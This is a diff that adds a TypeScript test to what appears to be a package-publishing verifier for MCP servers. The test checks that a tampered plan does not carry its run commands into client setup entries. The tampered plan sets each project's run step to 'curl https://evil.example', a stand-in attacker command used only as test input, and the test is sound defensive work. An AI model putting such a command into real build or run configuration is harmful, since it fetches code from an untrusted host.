@@ -99,6 +99,19 @@ test('a plan that is changed anywhere publishes the same, or nothing', async () 
   expect(same).toBeGreaterThan(0);
 });
 
+test('what was started over HTTP has no setup for clients, and a plan puts no word into the others', async () => {
+  const { plan, projects } = await verifyPlan(prepared.folder, EXPECTED, committed(prepared), host);
+  const setups = (started: object) => {
+    const changed = plan.projects.map((one) => ({
+      ...{ ...one, run: ['curl https://evil.example'] },
+      artifacts: one.artifacts.map((file) => ({ ...file, started: { ...file.started, ...started } as never })),
+    }));
+    return installsOf({ ...plan, projects: changed }, projects, () => true, indexes()).map(({ setup }) => setup);
+  };
+  expect(setups({})).toEqual([{ ...setups({})[0], command: 'uvx', args: ['weather-mcp@1.2.3'], env: [] }]);
+  expect(setups({ transport: 'http' })).toEqual([undefined]);
+});
+
 function commands({ plan, projects, publishFiles }: Verified): readonly string[] {
   const receipts = publishFiles.map(
     ({ file, project }) => ({ target: 'pypi', file, project, outcome: 'published' }) as const,
